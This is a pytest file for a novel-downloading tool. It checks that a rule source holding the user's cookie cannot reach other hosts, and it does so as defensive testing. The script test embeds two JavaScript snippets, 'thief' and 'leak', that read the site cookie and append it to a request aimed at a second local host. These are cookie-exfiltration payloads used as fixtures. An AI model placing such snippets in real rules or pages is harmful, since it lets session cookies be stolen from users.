"""A rule source that holds your cookie reaches its own site only (unless you let it further).

Its cookie goes to its own site alone anyway (``test_source_cookies.py``); what the cookie
unlocks must not leave by another door: a script reading the cookie, or a rule reading a
signed-in page, and putting either into an address on another host. Sources here live on
127.0.0.2; the other host is 127.0.0.1 (local addresses are allowed for the source, so only the
site rule is under test).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from yarl import URL

from novelfetch.core.jobs.downloader import Downloader, DownloadOptions
from novelfetch.core.net.http import HttpSettings
from novelfetch.core.net.policy import NetworkPolicy, OtherSiteRefused
from novelfetch.core.net.retry import RetryPolicy
from novelfetch.core.sources.memory import MemoryDict
from novelfetch.core.sources.search import search_sources
from novelfetch.core.store.chapter_store import Store
from tests.cli_support import run_cli
from tests.hostile.sites import Site, rule, serving
from tests.hostile.test_source_cookies import SECRET, import_rules

QUICK = HttpSettings(connect_timeout=2.0, read_timeout=5.0)


async def download(registry, source_id: str, book: str, store: Path, cookie: str = ""):  # type: ignore[no-untyped-def]
    options = DownloadOptions(
        source=source_id, concurrency=1, retry=RetryPolicy(0), http=QUICK, cookie=cookie
    )
    with Store(store) as opened:
        async with Downloader(opened, options, registry=registry) as job:
            return await job.fetch(await job.load(book))


async def test_with_your_cookie_a_source_reaches_its_own_site_only(tmp_path: Path) -> None:
    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
        own.chapter_link = elsewhere.url("/chapter")  # its catalog links to another host
        registry, (source_id,) = import_rules(tmp_path / "data", rule(own.base), other_sites=False)
        registry.set_cookie(source_id, SECRET)
        refused = await download(registry, source_id, own.url("/book"), tmp_path / "1.sqlite3")
        assert elsewhere.seen == []  # not a request, not a connection
        [failure] = refused.failures
        assert "127.0.0.1 is not on 127.0.0.2" in failure.reason
        assert "holds your cookie" in failure.reason and "allow-other-sites" in failure.reason

        registry.set_allow_other_sites(source_id, True)  # the user lets it
        allowed = await download(registry, source_id, own.url("/book"), tmp_path / "2.sqlite3")
        assert allowed.fetched == 1 and elsewhere.paths() == ["/chapter"]
        assert elsewhere.cookies_sent() == []  # and the cookie still stays home

        registry.set_allow_other_sites(source_id, False)
        registry.set_cookie(source_id, "")  # no cookie, nothing to keep in
        free = await download(registry, source_id, own.url("/book"), tmp_path / "3.sqlite3")
        assert free.fetched == 1


async def test_a_cookie_given_for_one_run_confines_that_run(tmp_path: Path) -> None:
    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
        own.chapter_link = elsewhere.url("/chapter")
        registry, (source_id,) = import_rules(tmp_path / "data", rule(own.base), other_sites=False)
        result = await download(
            registry, source_id, own.url("/book"), tmp_path / "s.sqlite3", cookie=SECRET
        )
    assert len(result.failures) == 1 and elsewhere.seen == []


async def test_a_script_that_reads_your_cookie_cannot_send_it_elsewhere(tmp_path: Path) -> None:
    async with serving(Site(), "127.0.0.1") as elsewhere, serving(Site(), "127.0.0.2") as own:
        thief = (
            f"<js>var got = java.ajax('{elsewhere.base}status?c=' + cookie.getCookie(baseUrl));"
            "'/search?q=' + encodeURIComponent(got.indexOf('network policy') >= 0)</js>"
        )
        leak = f"<js>'{elsewhere.base}search?q=' + cookie.getCookie(baseUrl)</js>"
        registry, ids = import_rules(
            tmp_path / "data", rule(own.base, name="ajax", search_url=thief), other_sites=False
        )
        registry2, ids2 = import_rules(
            tmp_path / "data2", rule(own.base, name="url", search_url=leak), other_sites=False
        )
        for reg, (source_id,) in ((registry, ids), (registry2, ids2)):
            reg.set_cookie(source_id, SECRET)
        outcomes = []
        for reg, (source_id,) in ((registry, ids), (registry2, ids2)):
            entry = reg.get(source_id)
            async for outcome in search_sources([entry], "青云", http=QUICK, memory=MemoryDict()):
                outcomes.append(outcome)
    assert elsewhere.seen == []
    ajax, url = outcomes
    assert ajax.ok and own.queries == [
        "true"
    ]  # refused as Legado's ajax says it, and it went on home
    assert not url.ok and "holds your cookie" in str(url.error)


def test_its_own_site_is_its_host_and_subdomains() -> None:
    policy = NetworkPolicy.for_source(
        "x", "https://www.example.com/", allow_local=False, confined=True
    )
    for allowed in ("https://example.com/a", "http://m.example.com/", "https://WWW.example.com."):
        policy.check_site(URL(allowed))
    for refused in ("https://example.org/", "https://notexample.com/", "https://example.com.evil/"):
        with pytest.raises(OtherSiteRefused):
            policy.check_site(URL(refused))
    nowhere = NetworkPolicy.for_source("x", "not an address", allow_local=False, confined=True)
    with pytest.raises(OtherSiteRefused):
        nowhere.check_site(URL("https://example.com/"))
    NetworkPolicy.for_source("x", "https://example.com/", allow_local=False).check_site(
        URL("https://example.org/")
    )  # not confined: not its business


async def test_the_command_line_lets_a_source_further_and_says_so(tmp_path: Path) -> None:
    async with serving(Site(), "127.0.0.2") as own:
        data = tmp_path / "data"
        _, (source_id,) = import_rules(data, rule(own.base), other_sites=False)
        saved = await run_cli("sources", "cookie", source_id, SECRET, "--data-dir", str(data))
        assert "while it holds your cookie it may reach only its own site" in saved.out
        assert SECRET not in saved.out + saved.err
        shown = await run_cli("sources", "allow-other-sites", source_id, "--data-dir", str(data))
        assert shown.code == 0, shown.err
        assert "may reach sites besides its own while it holds your cookie" in shown.out
        listed = await run_cli("sources", "list", "--data-dir", str(data))
        assert f"sources deny-other-sites {source_id}" in listed.out
        denied = await run_cli("sources", "deny-other-sites", source_id, "--data-dir", str(data))
        assert "may not reach" in denied.out
        builtin = await run_cli("sources", "allow-other-sites", "baidu", "--data-dir", str(data))
        assert builtin.code == 2 and "built in" in builtin.err
